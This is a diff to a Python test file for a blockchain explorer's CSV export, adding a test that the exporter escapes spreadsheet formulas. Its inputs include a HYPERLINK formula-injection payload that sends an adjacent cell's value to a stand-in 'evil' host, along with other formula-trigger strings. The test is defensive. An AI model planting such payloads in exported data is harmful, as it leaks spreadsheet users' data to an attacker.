@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import threading
 import urllib.request
@@ -17,6 +19,7 @@ from assay.explorer.chart import loss_chart
 from assay.explorer.codes import STANDING_CODES, all_codes, event_meaning, find_code
 from assay.explorer.losses import AGAIN_AFTER_S, Losses, Point, Wanted, Weigh
 from assay.explorer.reader import RunReader
+from assay.explorer.tables import to_csv
 from assay.explorer.words import AMOUNTS, AmountWords, shares, shares_exactly, span
 from assay.protocol.digests import keccak
 from assay.protocol.errors import UnavailableError
@@ -257,6 +260,14 @@ def test_only_what_a_contract_gives_in_wei_is_written_as_tokens() -> None:
                 if kind != "bool" and name in AMOUNTS:
                     (in_wei if "wei" in told[name] else others).add(f"{path.stem} {name}")
     assert not others and {name.split()[1] for name in in_wei} == AMOUNTS
+
+
+def test_no_cell_of_a_table_is_a_formula() -> None:
+    """Attack: a vote whose reason an owner's program for tables computes, and which sends what is beside it."""
+    texts = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(A1)", "+1+1", "-A1", "\t=1"]
+    lines = list(csv.reader(io.StringIO(to_csv([{"reason": text, "amount": "-5"} for text in texts]))))
+    assert lines == [["reason", "amount"], *(["'" + text, "-5"] for text in texts)]
+    assert to_csv([{"reason": "less = more", "list": ["=1", 2]}]).splitlines()[1] == "less = more,'=1 2"
 
 
 # --- the server
